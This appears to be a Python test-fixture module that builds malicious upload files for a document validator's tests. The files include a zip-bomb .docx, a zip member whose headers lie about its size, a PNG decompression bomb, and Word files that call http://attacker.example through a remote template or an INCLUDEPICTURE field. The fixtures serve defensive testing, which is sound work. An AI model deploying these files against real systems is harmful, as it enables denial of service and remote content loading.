"""Real (and deliberately broken) files for upload and document tests, built in memory."""

from __future__ import annotations

import io
import zipfile

from docx import Document
from PIL import Image
from pypdf import PdfWriter


def pdf(pages: int = 1) -> bytes:
    out = io.BytesIO()
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    out = io.BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    writer.write(out)
    return out.getvalue()


def image(fmt: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (29, 112, 184)).save(out, format=fmt)
    return out.getvalue()


def docx(text: str = "Probation return") -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def docx_with(extra_name: str, extra: bytes = b"x") -> bytes:
    """A real .docx with one more zip entry (a macro project, a path escaping the archive...)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        target.writestr(extra_name, extra)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    """A .docx whose document expands a thousandfold: refused before anything unpacks it."""
    return docx_with("word/media/padding.xml", b"\0" * 20_000_000)


# -------------------------------------------------------- active content in Word documents [issue 14 §4]

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def docx_changed(members: dict[str, str | bytes]) -> bytes:
    """A real .docx with these members replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            if entry.filename not in members:
                target.writestr(entry, source.read(entry))
        for name, value in members.items():
            target.writestr(name, value)
    return out.getvalue()


def document_xml(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'


def relationships(*rows: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships {PACKAGE_RELS}>{"".join(rows)}</Relationships>'
    )


def with_relationship(part: str, kind: str, target: str, mode: str = "") -> bytes:
    """The document with one more relationship (of `kind`, the last segment of its type) on `part`."""
    mode_attribute = f' TargetMode="{mode}"' if mode else ""
    row = f'<Relationship Id="rIdX" Type="{RELS}/{kind}" Target="{target}"{mode_attribute}/>'
    with zipfile.ZipFile(io.BytesIO(docx())) as source:
        path = f"word/_rels/{part}.rels"
        existing = source.read(path).decode() if path in source.namelist() else relationships()
    return docx_changed({path: existing.replace("</Relationships>", row + "</Relationships>")})


def lying_zip_member(claimed: int, real: int) -> bytes:
    """A .docx with a member whose headers claim `claimed` bytes but whose data inflates to `real` bytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        with target.open("word/media/padding.bin", "w") as member:
            for _ in range(real // 1_000_000):
                member.write(b"\0" * 1_000_000)
    data = bytearray(out.getvalue())
    name = b"word/media/padding.bin"
    local = _header_at(data, b"PK\x03\x04", 30, name)
    central = _header_at(data, b"PK\x01\x02", 46, name)
    data[local + 22 : local + 26] = claimed.to_bytes(4, "little")
    data[central + 24 : central + 28] = claimed.to_bytes(4, "little")
    return bytes(data)


def _header_at(data: bytearray, signature: bytes, fixed: int, name: bytes) -> int:
    """The offset of the zip header (local or central) with this signature for the member `name`."""
    start = 0
    while (at := data.find(signature, start)) != -1:
        if data[at + fixed : at + fixed + len(name)] == name:
            return at
        start = at + 1
    raise AssertionError(f"no header for {name!r}")


def png_header_only(width: int, height: int) -> bytes:
    """A valid small PNG that claims `width` x `height` pixels (its data is a few bytes of zeros): cheap to
    send, ruinous to decode."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


OLE_FILE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
"""The first sector of an OLE compound file: how a VBA project is stored, whatever the part is called."""


def content_types(*extra: str) -> str:
    """The document's [Content_Types].xml with more entries."""
    with zipfile.ZipFile(io.BytesIO(docx())) as source:
        types = source.read("[Content_Types].xml").decode()
    return types.replace("</Types>", "".join(extra) + "</Types>")


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def active_docx(attack: str) -> bytes:
    """The three Word files the penetration test lodged: a remote template, a picture fetched by a field,
    and a macro project renamed as a picture."""
    if attack == "template":
        return with_relationship(
            "settings.xml", "attachedTemplate", "http://attacker.example/t.dotm", "External"
        )
    if attack == "field":
        body = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> INCLUDEPICTURE "http://attacker.example/p.png" \\d </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
        return docx_changed({"word/document.xml": document_xml(body)})
    return docx_changed({"word/media/image1.png": OLE_FILE})
